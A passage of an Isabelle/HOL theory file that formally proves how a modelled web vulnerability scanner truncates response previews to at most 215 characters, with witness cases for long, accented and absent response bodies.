         responsePreview rec = Some (truncateResponse (data (response sent))))) \<and>
   (scanEndpoint w s e opts = (Inr res, s') \<longrightarrow>
      (\<forall>t \<in> set (tests res). \<exists>d. responsePreview t = Some (truncateResponse d) \<and>
         js_length (truncateResponse d) \<le> 215))"
proof (intro conjI impI)
  show "js_length (truncateResponse d) \<le> 215" by (rule truncateResponse_length)
next
  assume "\<not> truthy_data d"
  then show "truncateResponse d = ''[No response body]''" by (rule truncateResponse_cases)
next
  assume "truthy_data d \<and> js_length (data_text d) \<le> 200"
  then show "truncateResponse d = data_text d" by (simp add: truncateResponse_cases)
next
  assume h: "truthy_data d \<and> 200 < js_length (data_text d)"
  then show "truncateResponse d = substring0 (data_text d) 200 @ ''... [truncated]''"
    "js_length (substring0 (data_text d) 200) = 200"
    "js_length (truncateResponse d) = 215"
    using truncateResponse_cases(3) [of d] by blast+
next
  assume "sc \<in> set scanners"
  then show "\<exists>sent t' rec.
         sendRequest w (tick s + 1) v = (Inr sent, t') \<and>
         tests (fst (run_test w sc bl p v (r, s))) = tests r @ [rec] \<and>
         responsePreview rec = Some (truncateResponse (data (response sent)))"
    by (rule run_test_preview)
next
  assume "scanEndpoint w s e opts = (Inr res, s')"
  then show "\<forall>t \<in> set (tests res). \<exists>d. responsePreview t = Some (truncateResponse d) \<and>
         js_length (truncateResponse d) \<le> 215"
    using scanEndpoint_previewed [of w s e opts res s'] truncateResponse_length by blast
qed

text \<open>A body of 150 letters of two bytes each is 150 characters long.\<close>

lemma accented_length: "js_length (concat (replicate 150 [CHR 0xC3, CHR 0xA9])) = 150"
  by code_simp

theorem C8_preview_bound_witness:
  "truthy_data (Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9]))) \<and>
   js_length (data_text (Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9])))) \<le> 200 \<and>
   truncateResponse (Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9]))) =
     concat (replicate 150 [CHR 0xC3, CHR 0xA9]) \<and>
   truthy_data (Text (replicate 300 CHR ''x'')) \<and>
   200 < js_length (data_text (Text (replicate 300 CHR ''x''))) \<and>
   truncateResponse (Text (replicate 300 CHR ''x'')) = replicate 200 CHR ''x'' @ ''... [truncated]'' \<and>
   js_length (truncateResponse (Text (replicate 300 CHR ''x''))) = 215 \<and>
   \<not> truthy_data Absent \<and> truncateResponse Absent = ''[No response body]'' \<and>
   sqlScanner \<in> set scanners \<and>
   (\<exists>sent t' rec.
      sendRequest refusing_world 1 (modified example_endpoint ''Query param: q (injected)'') =
        (Inr sent, t') \<and>
      tests (fst (run_test refusing_world sqlScanner None ''x''
                    (modified example_endpoint ''Query param: q (injected)'')
                    (scan_start example_endpoint, \<lparr>tick = 0, mods = loaded\<rparr>))) =
        tests (scan_start example_endpoint) @ [rec] \<and>
      responsePreview rec = Some (truncateResponse (data (response sent)))) \<and>
   (\<exists>res s' t d.
      scanEndpoint refusing_world \<lparr>tick = 0, mods = loaded\<rparr> example_endpoint example_options =
        (Inr res, s') \<and>
      t \<in> set (tests res) \<and> responsePreview t = Some (truncateResponse d) \<and>
      js_length (truncateResponse d) \<le> 215)"
proof -
  have ascii: "list_all (\<lambda>c. (of_char c :: nat) < 0x80) (replicate 300 CHR ''x'')"
    by (simp add: list_all_length)
  have long: "truthy_data (Text (replicate 300 CHR ''x''))"
    "200 < js_length (data_text (Text (replicate 300 CHR ''x'')))"
    "substring0 (replicate 300 CHR ''x'') 200 = replicate 200 CHR ''x''"
    using js_length_ascii [OF ascii] substring0_ascii [OF ascii, of 200] by simp_all
  have sc: "sqlScanner \<in> set scanners" by (simp add: scanners_def)
  obtain res s' where run: "scanEndpoint refusing_world \<lparr>tick = 0, mods = loaded\<rparr>
      example_endpoint example_options = (Inr res, s')" and some: "tests res \<noteq> []"
    using refused_scan by blast
  then obtain t where t: "t \<in> set (tests res)" by (cases "tests res") auto
  note th = C8_preview_bound [of _ _ refusing_world "\<lparr>tick = 0, mods = loaded\<rparr>"
      "modified example_endpoint ''Query param: q (injected)''" None "''x''"
      "scan_start example_endpoint" example_endpoint example_options res s']
  from th [of "Text (replicate 300 CHR ''x'')" sqlScanner] long(1,2)
  have raw: "truncateResponse (Text (replicate 300 CHR ''x'')) =
      substring0 (data_text (Text (replicate 300 CHR ''x''))) 200 @ ''... [truncated]''"
    "js_length (truncateResponse (Text (replicate 300 CHR ''x''))) = 215"
    by blast+
  from raw(1) long(3)
  have a1: "truncateResponse (Text (replicate 300 CHR ''x'')) = replicate 200 CHR ''x'' @ ''... [truncated]''"
    by simp
  from th [of "Text (replicate 300 CHR ''x'')" sqlScanner] sc
  have a3: "\<exists>sent t' rec.
      sendRequest refusing_world 1 (modified example_endpoint ''Query param: q (injected)'') =
        (Inr sent, t') \<and>
      tests (fst (run_test refusing_world sqlScanner None ''x''
                    (modified example_endpoint ''Query param: q (injected)'')
                    (scan_start example_endpoint, \<lparr>tick = 0, mods = loaded\<rparr>))) =
        tests (scan_start example_endpoint) @ [rec] \<and>
      responsePreview rec = Some (truncateResponse (data (response sent)))"
    by simp
  from th [of Absent sqlScanner] have b: "truncateResponse Absent = ''[No response body]''"
    by simp
  have "concat (replicate 150 [CHR 0xC3, CHR 0xA9]) \<noteq> []"
    using accented_length by (auto simp: js_length_Nil)
  then have short: "truthy_data (Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9])))"
    "js_length (data_text (Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9])))) \<le> 200"
    by (simp_all add: accented_length)
  have absent: "\<not> truthy_data Absent" by simp
  from th [of "Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9]))" sqlScanner] short
  have whole: "truncateResponse (Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9]))) =
      data_text (Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9])))"
    by blast
  from th [of Absent sqlScanner] run t
  have c: "\<exists>d. responsePreview t = Some (truncateResponse d) \<and> js_length (truncateResponse d) \<le> 215"
    by blast
  have whole': "truncateResponse (Text (concat (replicate 150 [CHR 0xC3, CHR 0xA9]))) =
      concat (replicate 150 [CHR 0xC3, CHR 0xA9])"
    unfolding whole by simp
  from short whole' long(1,2) a1 raw(2) absent a3 b sc run t c show ?thesis by blast
qed

section \<open>The variants share nothing\<close>














section \<open>The store after a call of an analyzer\<close>












end
